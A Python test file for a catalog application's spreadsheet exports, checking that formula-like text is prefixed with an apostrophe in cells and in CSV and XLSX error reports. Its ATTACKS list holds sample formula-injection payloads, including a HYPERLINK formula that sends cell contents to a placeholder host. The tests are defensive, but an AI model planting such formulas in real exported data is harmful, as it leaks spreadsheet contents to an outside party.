"""Exports never hand a spreadsheet a formula: text starting with = + - @ (or a
tab or carriage return) is written with an apostrophe in front."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from catalog.imports.errors import RowError
from catalog.imports.workbooks import csv_report_to_xlsx
from catalog.services.card_batches import ErrorReport
from kameng.spreadsheet import spreadsheet_cell, spreadsheet_row

ATTACKS = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("text", [*ATTACKS, "\t=1+1", "\r=1+1"])
def test_formula_text_is_written_as_text(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["QB10-ABCD-1234", "卡密 =1", "", 12, Decimal("-3.50"), None]
)
def test_other_values_pass_unchanged(value):
    assert spreadsheet_cell(value) == value


def test_a_row_is_neutralised_cell_by_cell():
    assert spreadsheet_row(["=1", 2, "ok"]) == ["'=1", 2, "ok"]


def error_report_rows(report: ErrorReport) -> list[list[str]]:
    report.file.flush()
    report.file.seek(0)
    return list(csv.reader(io.StringIO(report.file.read())))


def test_the_csv_error_report_neutralises_what_the_file_said():
    """The field and reason of an import error come from the uploaded file (its
    header, its codes): the CSV report writes them as text."""
    report = ErrorReport(limit=10)
    for number, text in enumerate(ATTACKS, start=2):
        report(RowError(number, text, text, "rejected"))
    rows = error_report_rows(report)[1:]
    assert [row[1] for row in rows] == ["'" + text for text in ATTACKS]
    assert [row[2] for row in rows] == ["'" + text for text in ATTACKS]
    assert [row[0] for row in rows] == ["2", "3", "4", "5"]
    report.close()


def test_the_xlsx_error_report_has_no_formula_cell():
    report = ErrorReport(limit=10)
    for number, text in enumerate(ATTACKS, start=2):
        report(RowError(number, text, text, "rejected"))
    report.file.flush()
    report.file.seek(0)
    workbook = load_workbook(csv_report_to_xlsx(report.file.buffer))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert workbook.active["B2"].value == "'" + ATTACKS[0]
    report.close()
